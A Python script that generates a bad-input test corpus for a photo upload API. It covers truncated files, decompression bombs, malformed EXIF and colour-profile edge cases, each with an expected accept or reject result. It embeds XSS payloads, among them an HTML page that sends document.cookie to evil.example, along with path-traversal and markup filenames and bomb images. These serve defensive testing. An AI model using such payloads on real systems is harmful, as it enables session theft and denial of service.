"""Generate the bad-input corpus in tests/data/bad/ (deterministic; Pillow, pillow-heif and the standard library).

    .venv/bin/python scripts/make_bad_corpus.py [--out DIR]

Every file is made here, none is downloaded. MANIFEST.json lists, for each file, the name it is
uploaded under (hostile names such as ``../../etc/passwd.jpg`` are used only at upload time; the
files on disk have safe names), what it is, and what the product must do with it:

- ``"rejected"``: a 4xx answer whose per-file reason contains every word of ``message_contains``,
  and nothing stored;
- ``"accepted"``: added, then processing reaches ``ready`` with a thumbnail (optional checks:
  ``content_type`` as detected, ``size`` upright, ``original_name``, ``taken_at``, and one
  ``thumbnail_pixel`` colour).

tests/gallery/test_bad_corpus.py uploads each file through the real API and asserts its entry.
The same Pillow version writes the same bytes, so the manifest's SHA-256 values are stable.
"""

from __future__ import annotations

import argparse
import hashlib
import io
import json
import struct
import zlib
from pathlib import Path

import pillow_heif
from PIL import Image

pillow_heif.register_heif_opener()  # Pillow writes HEIC through it

DEFAULT_OUT = Path(__file__).resolve().parent.parent / "tests" / "data" / "bad"
MAX_TOTAL_BYTES = 300_000


# --- helpers ---------------------------------------------------------------------------------------

def _save(image: Image.Image, fmt: str, **kwargs) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, format=fmt, **kwargs)
    return buffer.getvalue()


def _pattern(width: int, height: int, seed: int) -> Image.Image:
    """A deterministic colourful picture (blocks of a small LCG), different for each seed."""
    state = seed * 2654435761 % 2**32 or 1
    cells = []
    for _ in range(8 * 6):
        state = (1103515245 * state + 12345) % 2**31
        cells.append(((state >> 8) & 255, (state >> 16) & 255, (state >> 4) & 255))
    small = Image.new("RGB", (8, 6))
    small.putdata(cells)
    return small.resize((width, height), Image.Resampling.NEAREST)


def _jpeg(seed: int, width: int = 96, height: int = 64, **kwargs) -> bytes:
    return _save(_pattern(width, height, seed), "JPEG", quality=85, **kwargs)


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def _png(width: int, height: int, bit_depth: int, colour_type: int, idat: bytes) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, bit_depth, colour_type, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", idat)
            + _png_chunk(b"IEND", b""))


# --- the files -------------------------------------------------------------------------------------

def truncated_jpeg() -> bytes:
    data = _jpeg(seed=11, width=240, height=160)
    return data[: len(data) // 2]


def truncated_png() -> bytes:
    data = _save(_pattern(240, 160, seed=12), "PNG")
    return data[: len(data) // 2]


def png_named_jpg() -> bytes:
    return _save(_pattern(64, 48, seed=13), "PNG")


SVG = b"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="alert(document.cookie)">
  <script type="text/javascript">fetch('/api/v1/photos/').then(r => r.text()).then(alert);</script>
  <rect width="100" height="100" fill="red"/>
</svg>
"""

HTML = b"""<!DOCTYPE html>
<html><head><title>photo</title></head>
<body><img src="x" onerror="alert(1)"><script>document.location='https://evil.example/?c='+document.cookie</script></body>
</html>
"""


def one_pixel_png() -> bytes:
    return _save(Image.new("RGB", (1, 1), (200, 30, 30)), "PNG")


def bomb_png_header() -> bytes:
    """IHDR claims 100,000 x 100,000 pixels (10 gigapixels); the data is a few rows of zeros."""
    rows = b"".join(b"\x00" + b"\x00" * (100_000 // 8) for _ in range(16))
    return _png(100_000, 100_000, 1, 0, zlib.compress(rows, 9))


def bomb_png_real() -> bytes:
    """A complete, valid 10,000 x 10,000 1-bit PNG (100 megapixels) that is only a few KB."""
    row = b"\x00" + b"\x00" * (10_000 // 8)
    compressor = zlib.compressobj(9)
    idat = b"".join(compressor.compress(row) for _ in range(10_000)) + compressor.flush()
    return _png(10_000, 10_000, 1, 0, idat)


def bomb_gif_header() -> bytes:
    """GIF screen and frame of 65,535 x 65,535 pixels (4.3 gigapixels) with a handful of LZW bytes."""
    screen = b"GIF89a" + struct.pack("<HHBBB", 65535, 65535, 0x80, 0, 0) + b"\x00\x00\x00\xff\xff\xff"
    frame = b"\x2c" + struct.pack("<HHHHB", 0, 0, 65535, 65535, 0) + b"\x02" + b"\x02\x4c\x01" + b"\x00"
    return screen + frame + b"\x3b"


def bomb_jpeg_header() -> bytes:
    """A valid small JPEG whose frame header (SOF0) is rewritten to claim 60,000 x 60,000 pixels."""
    data = _jpeg(seed=20)
    sof = data.index(b"\xff\xc0")
    return data[: sof + 5] + struct.pack(">HH", 60_000, 60_000) + data[sof + 9:]


def bomb_png_text_chunk() -> bytes:
    """A small valid PNG with a zTXt comment that inflates to 5 MB (metadata decompression bomb)."""
    data = _save(_pattern(64, 48, seed=21), "PNG")
    ztxt = _png_chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(b"\x00" * 5_000_000, 9))
    return data[:33] + ztxt + data[33:]  # right after IHDR


def cmyk_jpeg() -> bytes:
    return _save(Image.new("CMYK", (64, 48), (0, 255, 255, 0)), "JPEG", quality=90)  # pure red


def grey16_png() -> bytes:
    """A 16-bit greyscale gradient, left black to right white (Pillow mode I;16)."""
    width, height = 64, 48
    rows = b"".join(
        b"\x00" + b"".join(struct.pack(">H", round(x * 65535 / (width - 1))) for x in range(width))
        for _ in range(height))
    return _png(width, height, 16, 0, zlib.compress(rows, 9))


def rgb16_png() -> bytes:
    """A 48-bit RGB PNG (16 bits per channel), pure green."""
    width, height = 64, 48
    pixel = struct.pack(">HHH", 0, 65535, 0)
    rows = b"".join(b"\x00" + pixel * width for _ in range(height))
    return _png(width, height, 16, 2, zlib.compress(rows, 9))


def animated_gif() -> bytes:
    frames = [Image.new("RGB", (48, 48), colour) for colour in ((0, 0, 255), (255, 0, 0), (0, 255, 0))]
    return _save(frames[0], "GIF", save_all=True, append_images=frames[1:], duration=100, loop=0)


def huge_exif_jpeg() -> bytes:
    """A JPEG whose EXIF block fills the whole 64 KB APP1 segment (a 60,000-character description)."""
    exif = Image.Exif()
    exif[0x010E] = ("A very long camera description. " * 2000)[:60_000]  # ImageDescription
    exif[0x010F] = "BadCorpusCam"  # Make
    exif.get_ifd(0x8769)[0x9003] = "2021:07:04 12:30:00"  # DateTimeOriginal
    return _jpeg(seed=14, exif=exif.tobytes())


def broken_exif_jpeg() -> bytes:
    """A JPEG with a hostile EXIF block: 65,535 IFD entries declared, offsets past the end."""
    tiff = b"II*\x00" + struct.pack("<I", 8) + struct.pack("<H", 0xFFFF)
    tiff += struct.pack("<HHII", 0x0112, 3, 0xFFFFFFFF, 0x7FFFFFF0)  # Orientation with absurd count/offset
    tiff += struct.pack("<HHII", 0x8769, 4, 1, 0xFFFFFF00)  # Exif IFD pointer past the end
    app1 = b"Exif\x00\x00" + tiff
    segment = b"\xff\xe1" + struct.pack(">H", len(app1) + 2) + app1
    data = _jpeg(seed=15)
    return data[:2] + segment + data[2:]


def truncated_heic() -> bytes:
    data = _save(_pattern(240, 160, seed=22), "HEIF", quality=80)
    return data[: len(data) // 2]


def bomb_heic_header() -> bytes:
    """A valid 64x64 HEIC whose image spatial extents box ("ispe") is rewritten to claim 60,000 x 60,000.
    64x64 needs no clean-aperture crop box, which would otherwise state the real size again."""
    data = _save(_pattern(64, 64, seed=23), "HEIF", quality=80)
    ispe = data.index(b"ispe")
    return data[: ispe + 8] + struct.pack(">II", 60_000, 60_000) + data[ispe + 16:]


def multi_image_heic() -> bytes:
    """Two images as phones write bursts and edits: blue first, the primary (the photo) red 96x64,
    with EXIF taken at 14:30:15 on 6 May 2024 in UTC+01:00."""
    exif = Image.Exif()
    exif[0x010F], exif[0x0110] = "Apple", "iPhone 15 Pro"
    exif.get_ifd(0x8769)[0x9003] = "2024:05:06 14:30:15"  # DateTimeOriginal
    exif.get_ifd(0x8769)[0x9011] = "+01:00"  # OffsetTimeOriginal
    frames = [Image.new("RGB", (96, 64), (0, 0, 255)), Image.new("RGB", (96, 64), (255, 0, 0))]
    return _save(frames[0], "HEIF", save_all=True, append_images=frames[1:], primary_index=1, quality=90,
                 exif=exif.tobytes())


def truncated_avif() -> bytes:
    data = _save(_pattern(240, 160, seed=24), "AVIF", quality=80)
    return data[: len(data) // 2]


def _s15(*values: float) -> bytes:
    return b"".join(struct.pack(">i", round(v * 65536)) for v in values)


def _mluc(text: str) -> bytes:
    encoded = text.encode("utf-16-be")
    return b"mluc\0\0\0\0" + struct.pack(">II", 1, 12) + b"enUS" + struct.pack(">II", len(encoded), 28) + encoded


def display_p3_profile() -> bytes:
    """An ICC v4 Display P3 profile: DCI-P3 primaries and the sRGB tone curve, colorants adapted to D50
    with Bradford; the numbers are those tests/images.py derives from the primaries, to 6 places."""
    xyz = lambda *v: b"XYZ \0\0\0\0" + _s15(*v)  # noqa: E731
    curve = b"para\0\0\0\0" + struct.pack(">HH", 3, 0) + _s15(2.4, 1 / 1.055, 0.055 / 1.055, 1 / 12.92, 0.04045)
    tags = [(b"desc", _mluc("Display P3 (bad corpus)")), (b"cprt", _mluc("no copyright")),
            (b"wtpt", xyz(0.9642, 1.0, 0.8249)),
            (b"chad", b"sf32\0\0\0\0" + _s15(1.047886, 0.022919, -0.050216, 0.029582, 0.990484, -0.017079,
                                                -0.009252, 0.015073, 0.751678)),
            (b"rXYZ", xyz(0.515119, 0.241189, -0.00105)), (b"gXYZ", xyz(0.291978, 0.692244, 0.041879)),
            (b"bXYZ", xyz(0.157103, 0.066567, 0.784071)), (b"rTRC", curve), (b"gTRC", curve), (b"bTRC", curve)]
    offset, table, data = 128 + 4 + 12 * len(tags), b"", b""
    for signature, body in tags:
        table += signature + struct.pack(">II", offset + len(data), len(body))
        data += body + b"\0" * (-len(body) % 4)
    body = struct.pack(">I", len(tags)) + table + data
    header = (struct.pack(">I4sI", 128 + len(body), b"\0" * 4, 0x04300000) + b"mntrRGB XYZ "
              + struct.pack(">6H", 2026, 1, 1, 0, 0, 0) + b"acsp" + b"\0" * 28 + _s15(0.9642, 1.0, 0.8249)
              + b"\0" * 48)
    return header + body


def display_p3_avif() -> bytes:
    """A flat P3 (200, 100, 50): in sRGB that colour is (215, 93, 31); shown unconverted it is duller."""
    return _save(Image.new("RGB", (64, 48), (200, 100, 50)), "AVIF", quality=95, icc_profile=display_p3_profile())


LONG_NAME = "holiday-" + "x" * (500 - len("holiday-") - len(".jpg")) + ".jpg"
assert len(LONG_NAME) == 500

# (file on disk, maker, upload name, declared content type, what it is, expectation)
CASES = [
    ("empty.jpg", lambda: b"", "empty.jpg", "image/jpeg", "zero bytes",
     {"expected": "rejected", "message_contains": ["empty"]}),
    ("truncated.jpg", truncated_jpeg, "truncated.jpg", "image/jpeg", "the first half of a 240x160 JPEG",
     {"expected": "rejected", "message_contains": ["damaged", "truncated"]}),
    ("truncated.png", truncated_png, "truncated.png", "image/png", "the first half of a 240x160 PNG",
     {"expected": "rejected", "message_contains": ["damaged", "truncated"]}),
    ("png_named_jpg.jpg", png_named_jpg, "really-a-png.jpg", "image/jpeg",
     "a valid PNG uploaded with a .jpg name and an image/jpeg content type",
     {"expected": "accepted", "content_type": "image/png", "size": [64, 48], "stored_suffix": ".png"}),
    ("script.svg", lambda: SVG, "drawing.svg", "image/svg+xml", "an SVG with a <script> and an onload handler",
     {"expected": "rejected", "message_contains": ["not an image", "Accepted formats"]}),
    ("script.html", lambda: HTML, "index.html", "text/html", "an HTML page with a <script>",
     {"expected": "rejected", "message_contains": ["not an image", "Accepted formats"]}),
    ("script_html_named_jpg.jpg", lambda: HTML, "cute-cat.jpg", "image/jpeg",
     "the same HTML page uploaded under a .jpg name and an image/jpeg content type",
     {"expected": "rejected", "message_contains": ["not an image"]}),
    ("one_pixel.png", one_pixel_png, "one-pixel.png", "image/png",
     "a 1x1 PNG: not a photo, cannot make a thumbnail worth showing",
     {"expected": "rejected", "message_contains": ["too small", "1x1"]}),
    ("bomb_header.png", bomb_png_header, "bomb.png", "image/png",
     "a PNG whose header claims 100000x100000 pixels (decompression bomb, header only)",
     {"expected": "rejected", "message_contains": ["too many pixels"]}),
    ("bomb_real.png", bomb_png_real, "bomb-100mp.png", "image/png",
     "a complete 10000x10000 1-bit PNG (100 megapixels in a few KB; over the 80 MP limit)",
     {"expected": "rejected", "message_contains": ["too many pixels"]}),
    ("bomb_header.gif", bomb_gif_header, "bomb.gif", "image/gif",
     "a GIF whose screen and frame claim 65535x65535 pixels",
     {"expected": "rejected", "message_contains": ["too many pixels"]}),
    ("bomb_header.jpg", bomb_jpeg_header, "bomb.jpg", "image/jpeg",
     "a JPEG whose frame header claims 60000x60000 pixels",
     {"expected": "rejected", "message_contains": ["too many pixels"]}),
    ("bomb_text_chunk.png", bomb_png_text_chunk, "comment-bomb.png", "image/png",
     "a 64x48 PNG with a zTXt comment that inflates to 5 MB (Pillow's text-chunk limit is 1 MB)",
     {"expected": "rejected", "message_contains": ["could not be read", "too large"]}),
    ("cmyk.jpg", cmyk_jpeg, "cmyk.jpg", "image/jpeg", "a CMYK JPEG, pure red",
     {"expected": "accepted", "content_type": "image/jpeg", "size": [64, 48],
      "thumbnail_pixel": {"rgb": [255, 0, 0], "tolerance": 60}}),
    ("grey16.png", grey16_png, "grey16.png", "image/png", "a 16-bit greyscale PNG, black-to-white gradient",
     {"expected": "accepted", "content_type": "image/png", "size": [64, 48],
      "thumbnail_pixel": {"rgb": [128, 128, 128], "tolerance": 40}}),
    ("rgb16.png", rgb16_png, "rgb48.png", "image/png", "a 48-bit RGB PNG (16 bits per channel), pure green",
     {"expected": "accepted", "content_type": "image/png", "size": [64, 48],
      "thumbnail_pixel": {"rgb": [0, 255, 0], "tolerance": 40}}),
    ("animated.gif", animated_gif, "animated.gif", "image/gif",
     "an animated GIF, frames blue, red, green: the first frame is the photo",
     {"expected": "accepted", "content_type": "image/gif", "size": [48, 48],
      "thumbnail_pixel": {"rgb": [0, 0, 255], "tolerance": 40}}),
    ("huge_exif.jpg", huge_exif_jpeg, "huge-exif.jpg", "image/jpeg",
     "a JPEG whose EXIF block fills the 64 KB APP1 segment (60,000-character description)",
     {"expected": "accepted", "content_type": "image/jpeg", "size": [96, 64],
      "taken_at": "2021-07-04T12:30:00Z"}),
    ("broken_exif.jpg", broken_exif_jpeg, "broken-exif.jpg", "image/jpeg",
     "a JPEG with a hostile EXIF block (65535 entries declared, offsets past the end): good pixels",
     {"expected": "accepted", "content_type": "image/jpeg", "size": [96, 64]}),
    ("truncated.heic", truncated_heic, "IMG_0002.HEIC", "image/heic", "the first half of a 240x160 HEIC",
     {"expected": "rejected", "message_contains": ["damaged", "truncated"]}),
    ("bomb_header.heic", bomb_heic_header, "bomb.heic", "image/heic",
     "a 64x64 HEIC whose ispe box claims 60000x60000 pixels",
     {"expected": "rejected", "message_contains": ["too many pixels"]}),
    ("multi_image.heic", multi_image_heic, "IMG_0001.HEIC", "image/heic",
     "a HEIC of two images, blue then the primary red 96x64, EXIF 2024-05-06 14:30:15 +01:00: the primary is the photo",
     {"expected": "accepted", "content_type": "image/heic", "size": [96, 64], "stored_suffix": ".heic",
      "taken_at": "2024-05-06T13:30:15Z", "thumbnail_pixel": {"rgb": [255, 0, 0], "tolerance": 40}}),
    ("truncated.avif", truncated_avif, "truncated.avif", "image/avif", "the first half of a 240x160 AVIF",
     {"expected": "rejected", "message_contains": ["damaged", "truncated"]}),
    ("display_p3.avif", display_p3_avif, "display-p3.avif", "image/avif",
     "an AVIF with a Display P3 profile, flat P3 (200,100,50): sRGB (215,93,31) once converted",
     {"expected": "accepted", "content_type": "image/avif", "size": [64, 48], "stored_suffix": ".avif",
      "thumbnail_pixel": {"rgb": [215, 93, 31], "tolerance": 6}}),
    ("path_traversal.jpg", lambda: _jpeg(seed=16), "../../etc/passwd.jpg", "image/jpeg",
     "a valid JPEG uploaded under a path-traversal name",
     {"expected": "accepted", "content_type": "image/jpeg", "original_name": "passwd.jpg"}),
    ("path_traversal_windows.jpg", lambda: _jpeg(seed=17), "..\\..\\Windows\\win.ini.jpg", "image/jpeg",
     "a valid JPEG uploaded under a Windows path-traversal name",
     {"expected": "accepted", "content_type": "image/jpeg", "original_name": "win.ini.jpg"}),
    ("markup_in_name.jpg", lambda: _jpeg(seed=19), '<img src=x onerror=alert(1)>.jpg', "image/jpeg",
     "a valid JPEG whose name is HTML markup: kept as data, escaped wherever it is shown",
     {"expected": "accepted", "content_type": "image/jpeg", "original_name": "<img src=x onerror=alert(1)>.jpg"}),
    ("long_name.jpg", lambda: _jpeg(seed=18), LONG_NAME, "image/jpeg",
     "a valid JPEG uploaded under a 500-character name ending in .jpg",
     {"expected": "accepted", "content_type": "image/jpeg", "original_name_max_length": 255}),
]


def build(out: Path) -> dict:
    out.mkdir(parents=True, exist_ok=True)
    entries = []
    for file_name, make, upload_name, content_type, description, expectation in CASES:
        data = make()
        (out / file_name).write_bytes(data)
        entries.append({"file": file_name, "upload_name": upload_name, "upload_content_type": content_type,
                        "description": description, "bytes": len(data),
                        "sha256": hashlib.sha256(data).hexdigest(), **expectation})
    manifest = {
        "about": "Bad-input upload corpus made by scripts/make_bad_corpus.py; see that script's docstring. "
                 "Limits assumed: UPLOAD_MAX_PIXELS 80,000,000, minimum side 8 pixels.",
        "files": entries,
    }
    (out / "MANIFEST.json").write_text(json.dumps(manifest, indent=2, ensure_ascii=False) + "\n", encoding="utf-8")
    total = sum(entry["bytes"] for entry in entries)
    if total > MAX_TOTAL_BYTES:
        raise SystemExit(f"the corpus is {total} bytes; keep it under {MAX_TOTAL_BYTES}")
    return manifest


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path, default=DEFAULT_OUT, help=f"output folder (default {DEFAULT_OUT})")
    args = parser.parse_args()
    manifest = build(args.out)
    total = sum(entry["bytes"] for entry in manifest["files"])
    print(f"wrote {len(manifest['files'])} files ({total:,} bytes) and MANIFEST.json to {args.out}")


if __name__ == "__main__":
    main()
